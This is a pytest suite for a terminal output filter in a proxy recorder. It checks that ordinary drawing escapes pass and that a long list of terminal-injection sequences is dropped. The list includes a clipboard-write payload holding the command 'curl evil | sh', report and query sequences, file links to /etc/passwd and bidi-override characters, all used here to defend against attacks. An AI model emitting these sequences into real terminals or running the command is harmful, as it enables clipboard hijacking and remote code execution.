from __future__ import annotations

import base64
import re

import pyte
import pytest
from hypothesis import given
from hypothesis import strategies as st

from proxyd.tape.terminal_filter import TerminalFilter


def filtered(data: bytes, *, is_cooked: bool = False) -> str:
    return TerminalFilter(is_cooked=is_cooked).feed(data)


HARMLESS = [
    "plain",
    "\r\n\b\t",
    "grüße € 😀 e\u0301 \ue0b0",
    "\x1b[m",
    "\x1b[0;1;31m",
    "\x1b[38;5;200m",
    "\x1b[38:2::1:2:3m",
    "\x1b[H",
    "\x1b[5;10H",
    "\x1b[2J",
    "\x1b[K",
    "\x1b[3;20r",
    "\x1b[2L\x1b[M\x1b[3P\x1b[4@\x1b[5X\x1b[S\x1b[2T",
    "\x1b[s\x1b[u\x1b7\x1b8",
    "\x1bM\x1bD\x1bE",
    "\x1b[?25l\x1b[?25h",
    "\x1b[?1049h\x1b[?1049l",
    "\x1b[4h\x1b[4l",
    "\x1b[2 q",
    "x\x1b[3b",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_only_draws_passes(text: str) -> None:
    assert filtered(text.encode()) == text


ATTACKS = {
    "clipboard": b"\x1b]52;c;" + base64.b64encode(b"curl evil | sh\n") + b"\x07",
    "clipboard, read": b"\x1b]52;c;?\x1b\\",
    "title": b"\x1b]0;owned\x07",
    "title by C1": "\x9d2;owned\x9c".encode(),
    "title for screen": b"\x1bkowned\x1b\\",
    "title report": b"\x1b[21t",
    "window moved": b"\x1b[3;0;0t",
    "status report": b"\x1b[6n",
    "status report, private": b"\x1b[?6n",
    "attributes": b"\x1b[c",
    "attributes, secondary": b"\x1b[>c",
    "attributes, tertiary": b"\x1b[=c",
    "identify": b"\x1bZ",
    "answerback": b"\x05",
    "mode report": b"\x1b[?2026$p",
    "setting report": b"\x1bP$qm\x1b\\",
    "terminfo report": b"\x1bP+q544e\x1b\\",
    "version report": b"\x1b[>q",
    "checksum report": b"\x1b[1;1;1;1;1;1*y",
    "parameter report": b"\x1b[x",
    "colour report": b"\x1b]11;?\x07",
    "colour set": b"\x1b]4;0;rgb:00/00/00\x07",
    "notification": b"\x1b]9;hello\x07",
    "directory": b"\x1b]7;file://host/\x07",
    "link": b"\x1b]8;;file:///etc/passwd\x07",
    "file transfer": b"\x1b]1337;File=name=eA==;inline=0:eA==\x07",
    "pass through tmux": b"\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\",
    "kitty picture": b"\x1b_Ga=T,f=100,t=f;L2V0Yy9wYXNzd2Q=\x1b\\",
    "private message": b"\x1b^x\x1b\\",
    "string": b"\x1bXx\x1b\\",
    "user keys": b"\x1bP1;1|17/0d\x1b\\",
    "printer": b"\x1b[5i",
    "printer, private": b"\x1b[?5i",
    "scrollback erased": b"\x1b[3J",
    "keyboard locked": b"\x1b[2h",
    "keyboard of applications": b"\x1b[?1h\x1b=",
    "keyboard protocol": b"\x1b[>1u",
    "keyboard report": b"\x1b[?u",
    "other keys": b"\x1b[>4;2m",
    "mouse": b"\x1b[?1000h\x1b[?1003h\x1b[?1006h",
    "focus": b"\x1b[?1004h",
    "bracketed paste": b"\x1b[?2004h",
    "132 columns": b"\x1b[?3h",
    "frozen": b"\x1b[?2026h",
    "highlight tracking": b"\x1b[1;2;3;4;5T",
    "rectangles": b"\x1b[65;1;1;9;9$x",
    "macro": b"\x1bP0;0;0!zboom\x1b\\\x1b[0*z",
    "tests of the terminal": b"\x1b#8",
    "UTF-8 off": b"\x1b%@",
    "national alphabet": b"\x1b(K",
    "locked shift": b"\x1bn\x1bo\x1b~",
    "single shift": b"\x1bN\x1bO",
    "single shift by C1": "\x8e\x8f".encode(),
    "index by C1": "\x84\x85\x8d".encode(),
    "bell": b"\x07",
    "nothing": b"\x00\x7f",
    "left and right margins": b"\x1b[?69h\x1b[5;10s",
    "turned around": "\u202e\u2066\u200f".encode(),
    "hidden tags": "\U000e0041\U000e0042".encode(),
    "colour stack": b"\x1b[#P",
    "bad selection": b"\x1b[9J\x1b[1;2K",
    "endless parameters": b"\x1b[" + b"1;" * 100 + b"m",
    "three numbers to move": b"\x1b[1;2;3H",
}


@pytest.mark.parametrize("name", ATTACKS)
def test_what_a_terminal_would_obey_is_dropped(name: str) -> None:
    assert filtered(b"a" + ATTACKS[name] + b"b") == "ab"
    # And cut anywhere.
    for at in range(len(ATTACKS[name])):
        one = TerminalFilter()
        assert one.feed(b"a" + ATTACKS[name][:at]) + one.feed(ATTACKS[name][at:] + b"b") == "ab"


def test_of_several_modes_the_harmless_pass() -> None:
    assert filtered(b"\x1b[?25;1000;7;2004l") == "\x1b[?25;7l"


def test_numbers_are_clipped() -> None:
    assert filtered(b"\x1b[999999999999999C") == "\x1b[9999C"
    assert filtered(b"x\x1b[99999999b") == "x\x1b[1000b"
    assert filtered(b"\x1b[" + b"9" * 100_000 + b"C") == "\x1b[9999C"


def test_lines_are_drawn_with_unicode() -> None:
    assert filtered(b"\x1b(0lqqk\x1b(Bq") == "┌──┐q"
    assert filtered(b"\x1b)0\x0exx\x0fx") == "││x"
    assert filtered(b"\x1b(0q\x1b[!pq").endswith("q")


def test_a_full_reset_keeps_the_scrollback() -> None:
    out = filtered(b"\x1b[?1049h\x1bcx")
    assert "\x1bc" not in out
    assert out.endswith("\x1b[H\x1b[2Jx")
    assert "\x1b[?1049l" in out


def test_line_feeds_for_a_cooked_terminal() -> None:
    assert filtered(b"a\r\nb\nc\vd", is_cooked=True) == "a\r\nb\x1bDc\x1bDd"
    one = TerminalFilter(is_cooked=True)
    assert one.feed(b"a\r") + one.feed(b"\nb") == "a\r\nb"
    assert filtered(b"a\r\nb\nc\vd") == "a\r\nb\nc\nd"


def test_reset_brings_the_terminal_back() -> None:
    one = TerminalFilter()
    one.feed(b"\x1b[?1049h\x1b[?25l\x1b[31m\x1b[5;9r\x1b[4 q\x1b(0\x1b]0;half a ti")
    back = one.reset()
    for sequence in ("\x1b[?1049l", "\x1b[0m", "\x1b[r", "\x1b[?25h", "\x1b[?7h", "\x1b[4l", "\x1b[0 q"):
        assert sequence in back
    assert one.feed(b"q") == "q"
    # Without cause it does not leave a screen that it has not entered: that would move the cursor.
    assert "1049" not in TerminalFilter().reset()


def test_reset_leaves_the_cursor_where_it_is() -> None:
    one, screen = TerminalFilter(), pyte.Screen(40, 12)
    pyte.Stream(screen).feed(one.feed(b"\x1b[2;9r\x1b[7;5Hhere") + one.reset() + "!")
    assert screen.display[6] == "    here!".ljust(40)
    one.feed(b"\x1b[?6h\x1b7\x1b[?6l")
    assert "\x1b[?6l" in one.reset()


_ALLOWED = re.compile(
    "[^\x00-\x1f\x7f-\x9f]|[\b\t\n\r]|\x1b[78DEM]|\x1b\\[[0-9:;]*[A-GHIZ`adefrXLMPST@JKmsub]"
    "|\x1b\\[4[hl]|\x1b\\[\\?[0-9;]+[hl]|\x1b\\[[0-6]? q"
)


@given(
    st.lists(
        st.binary(max_size=4)
        | st.sampled_from(
            [b"\x1b[", b"\x1b]", b"\x1b", b"\x1bP", b"\x07", b"\x1b\\", b"\x9b", "\x9b".encode()]
        )
        | st.text(alphabet="0123456789;:?>= !$\"'*mhlnctqJKHp@\\]P_^X()", max_size=6).map(str.encode)
    )
)
def test_nothing_else_ever_passes(pieces: list[bytes]) -> None:
    one = TerminalFilter(is_cooked=True)
    out = "".join(one.feed(piece) for piece in pieces)
    assert _ALLOWED.sub("", out) == ""
    assert _ALLOWED.sub("", out + one.reset()) == ""


def test_it_draws_what_it_was_given() -> None:
    data = (
        b"\x1b[?1049h\x1b[2J\x1b[3;10r\x1b[H\x1b[1;32mdeploy\x1b[0m\r\n\x1b[5;20Hhere\x1b[K\x1b[2D"
        b"\x1b[Axx\n\n\n\x1bM\x1b[10;1H\n\nend\x1b[2L\x1b7\x1b[1;1Htop\x1b8\x1b[3@\x1b]0;title\x07!"
    )
    original, copy = pyte.Screen(40, 12), pyte.Screen(40, 12)
    pyte.ByteStream(original).feed(data)
    pyte.Stream(copy).feed(filtered(data))
    assert copy.display == original.display
    assert (copy.cursor.x, copy.cursor.y) == (original.cursor.x, original.cursor.y)
